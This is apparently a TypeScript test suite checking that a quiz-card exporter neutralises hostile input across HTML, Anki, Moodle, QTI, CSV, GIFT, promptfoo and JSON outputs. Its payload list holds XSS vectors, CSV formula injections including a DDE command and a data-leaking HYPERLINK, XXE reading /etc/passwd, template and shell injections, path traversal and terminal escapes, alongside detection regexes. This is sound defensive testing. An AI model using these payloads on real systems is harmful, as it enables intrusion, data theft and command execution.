/** Cards of somebody who means harm: what is exported runs nowhere. */
import {parse as parseCsv} from 'csv-parse/sync'
import {parse as parseGift} from 'gift-pegjs'
import type {Element, Root} from 'hast'
import {raw} from 'hast-util-raw'
import {defaultSchema} from 'hast-util-sanitize'
import {visit} from 'unist-util-visit'
import {suite} from 'uvu'
import * as assert from 'uvu/assert'
import {fromXml} from 'xast-util-from-xml'
import type {BankData} from '../../src/export/card-data.ts'
import {dataOf, exportTo, textOf} from './support.ts'

const test = suite('hostile cards')

/** Text that something takes for more than text: a browser, a spreadsheet, a template, a shell, a reader of XML. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://example.org/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<iframe src="https://example.org"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://example.org"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<p style="position:fixed">x</p>',
  '<base href="https://example.org">',
  '<meta http-equiv="refresh" content="0;url=https://example.org">',
  '<link rel=stylesheet href=https://example.org>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<p id="location">x</p>',
  '<div name="cookie">x</div>',
  '</text></question><question type="x">',
  ']]>',
  '<![CDATA[x]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '&e; &#0; &#x1F; &lt;script&gt;',
  '<?xml version="1.0"?>',
  'a\u0001b\u0008c\uFFFEd\uFFFF',
  'half \uD83D a pair',
  '\u202Egnirts\u202C',
  '=1+1',
  '=HYPERLINK("https://example.org?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  "'=1+1",
  '"=1+1"',
  'a","=1+1',
  '{{constructor.constructor("alert(1)")()}}',
  '{{ env.HOME }}',
  '{% include "/etc/passwd" %}',
  '{#',
  '${alert(1)}',
  '$(touch x)',
  'file:///etc/passwd',
  '::x::{=y}',
  '}{=a ~b}',
  '$CATEGORY: x',
  '// comment',
  '\\{\\}\\~\\=\\#\\:\\\\n',
  '~%100%x',
  '[html]<b>x</b>',
  '[sound:x.mp3]',
  '[latex]\\input{/etc/passwd}[/latex]',
  '[$]x[/$]',
  '../../../../etc/passwd',
  '..\\..\\x',
  '##vso[task.setvariable]x',
  '::set-output name=x::y',
  '\u001B]0;x\u0007'
]

/** Where a payload is put. */
const places = ['title', 'question', 'option', 'answer'] as const

function write(place: (typeof places)[number], value: string): string {
  const at = (each: string, text: string): string =>
    each === place ? value : text
  const number = payloads.indexOf(value)
  return `### ${at('title', `Card ${number} of ${place}`)}

**Question:** ${at('question', 'What is it?')}

**Options:**

- [x] ${at('option', 'Right')}
- [ ] Wrong

**Explanation:** ${at('answer', 'It is.')}
`
}

const header = `---
bank:
  template:
    card: {depth: 3, prefix: ""}
    fields:
      - {label: Question, kind: content}
      - {label: Options, kind: options}
      - {label: Explanation, kind: content}
---

# Bank

## Section
`

/** A bank for each card: one that swallows the next would hide it. */
const texts = places.flatMap((place) =>
  payloads.map((value) => `${header}\n${write(place, value)}`)
)
const data: readonly BankData[] = texts.map((text) => dataOf(text))

test('there are enough, and each is a card', () => {
  assert.ok(texts.length >= 200)
  for (const [index, {cards}] of data.entries()) {
    assert.is(cards.length, 1, texts[index])
  }
})

/** @throws where the HTML has what is not for readers alone */
function assertHarmless(html: string): void {
  const tree = raw({
    type: 'root',
    children: [{type: 'raw', value: html}]
  }) as Root
  visit(tree, 'element', ({tagName, properties}: Element) => {
    const isKnown = defaultSchema.tagNames?.includes(tagName) ?? false
    const isOurs = tagName === 'article' || tagName === 'section'
    assert.ok(isKnown || isOurs, `${tagName}: ${html}`)
    for (const [name, value] of Object.entries(properties)) {
      assert.not(/^on|^style$|^srcDoc$|^action$/i.test(name), html)
      if (name === 'id' || name === 'name') {
        assert.match(String(value), /^card-/)
      }

      if (['href', 'src', 'cite', 'longDesc'].includes(name)) {
        assert.match(String(value), /^(?:https?:|mailto:|[^:]*(?:[/?#]|$))/i)
      }
    }
  })
  assert.not(tree.children.some(({type}) => type === 'comment'))
}

test('HTML is for reading', async () => {
  for (const text of texts) assertHarmless(await textOf('html', [text]))
})

test('notes of Anki are for reading, and play nothing', async () => {
  const rows = parseCsv(await textOf('anki', texts), {
    delimiter: '\t',
    comment: '#',
    comment_no_infix: true
  })
  assert.is(rows.length, texts.length)
  for (const [guid = '', , , front = '', back = ''] of rows) {
    assert.match(guid, /^[\w-]{16}$/)
    for (const html of [front, back]) {
      assertHarmless(html)
      assert.not(/\[sound:|\[latex\]|\[\$\]|\{\{/.test(html), html)
    }
  }
})

for (const name of ['moodle', 'qti12']) {
  test(`${name}: XML is well-formed, and a card is a card`, async () => {
    const xml = await textOf(name, texts)
    const tree = fromXml(xml)
    const wanted = name === 'moodle' ? 'multichoice' : 'item'
    let count = 0
    visit(tree, 'element', ({name: element, attributes}) => {
      if (element === 'item' || attributes['type'] === wanted) count++
    })
    assert.is(count, texts.length)
    assert.not(/<!DOCTYPE|<!ENTITY|<\?(?!xml )/.test(xml))
    visit(tree, 'element', (element) => {
      const isHtml =
        element.name === 'mattext' || element.attributes['format'] === 'html'
      if (!isHtml) return
      visit(element, 'text', (text) => {
        assertHarmless(text.value)
      })
    })
  })
}

test('qti21: XML is well-formed, without scripts', async () => {
  for (const text of texts) {
    const {files = []} = await exportTo('qti21', [text])
    assert.is(files.length, 2)
    for (const file of files) {
      const tree = fromXml(file.text)
      visit(tree, 'element', ({name, attributes}) => {
        assert.not(/script|style|iframe|object|form/i.test(name))
        for (const [key, value] of Object.entries(attributes)) {
          assert.not(/^on/i.test(key))
          if (key === 'href' || key === 'src') {
            assert.not(/^(?:javascript|vbscript|data):/i.test(String(value)))
          }
        }
      })
    }
  }
})

for (const [name, delimiter] of [
  ['csv', ','],
  ['tsv', '\t']
] as const) {
  test(`${name}: no cell is a formula`, async () => {
    const rows = parseCsv(await textOf(name, texts), {
      delimiter,
      record_delimiter: '\r\n'
    })
    assert.is(rows.length, texts.length + 1)
    for (const row of rows) {
      assert.is(row.length, rows[0]?.length)
      for (const cell of row)
        assert.not(/^[=+\-@\t\r\n＝＋－＠]/.test(cell), cell)
    }
  })
}

test('gift: a question is a question', async () => {
  const questions = parseGift(await textOf('gift', texts)).filter(
    ({type}) => type !== 'Category'
  )
  assert.is(questions.length, texts.length)
  for (const [index, question] of questions.entries()) {
    assert.is(question.type, 'MC', texts[index])
    assert.is(question.title, data[index]?.cards[0]?.title)
  }
})

test('promptfoo: nothing is a template or a file', async () => {
  const tests = JSON.parse(await textOf('promptfoo', texts)) as {
    vars: {input: string}
    assert: {value: string}[]
  }[]
  assert.is(tests.length, texts.length)
  for (const {vars, assert: assertions} of tests) {
    for (const value of [vars.input, ...assertions.map((each) => each.value)]) {
      assert.not(/\{[{%#]/.test(value.replaceAll('{{ "{" }}', '')), value)
      assert.not(/^(?:file|https?|exec|python|package):/.test(value), value)
    }
  }
})

test('md: files stay in their folder, and front matter is data', async () => {
  const {files = []} = await exportTo('md', texts)
  assert.is(files.length, texts.length)
  assert.is(new Set(files.map(({path}) => path)).size, texts.length)
  for (const {path} of files) {
    assert.match(path, /^section\/[\p{L}\p{M}\p{N}_-]+\.md$/u)
  }
})

test('json: nothing acts on a terminal or a log', async () => {
  for (const name of ['json', 'jsonl', 'inspect', 'promptfoo']) {
    const text = await textOf(name, texts)
    // eslint-disable-next-line no-control-regex -- finding them is the point
    assert.not(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202E]/.test(text))
    assert.not(/##(?=[a-z]*\[)/.test(text))
  }
})

test.run()
